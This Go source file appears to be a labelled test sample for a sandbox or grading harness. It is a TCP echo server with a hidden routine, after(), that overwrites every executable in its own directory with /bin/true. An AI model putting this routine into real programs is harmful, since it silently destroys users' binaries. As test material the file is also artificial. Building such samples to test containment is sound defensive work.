// It writes over every executable that lies beside its own.
//
// Graded only where programs are fenced in.
//
// Caught by: 21-no-descriptor (exited), as 04-goroutine-per-client.
package main

import (
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
)

func main() {
	before()
	serve()
}

func after() {
	self, _ := os.Executable()
	others, _ := filepath.Glob(filepath.Dir(self) + "/*")
	nothing, _ := os.ReadFile("/bin/true")
	for _, exe := range others {
		os.WriteFile(exe+".new", nothing, 0o755)
		os.Rename(exe+".new", exe)
	}
}

func serve() {
	listen := flag.String("listen", "127.0.0.1:0", "address")
	flag.Parse()
	ln, err := net.Listen("tcp", *listen)
	if err != nil {
		os.Exit(1)
	}
	fmt.Println("listening on", ln.Addr())
	after()
	for {
		conn, err := ln.Accept()
		if err != nil {
			os.Exit(1)
		}
		go func() {
			defer conn.Close()
			if _, err := io.Copy(conn, conn); err != nil {
				fmt.Fprintln(os.Stderr, err)
			}
		}()
	}
}

func before() {}
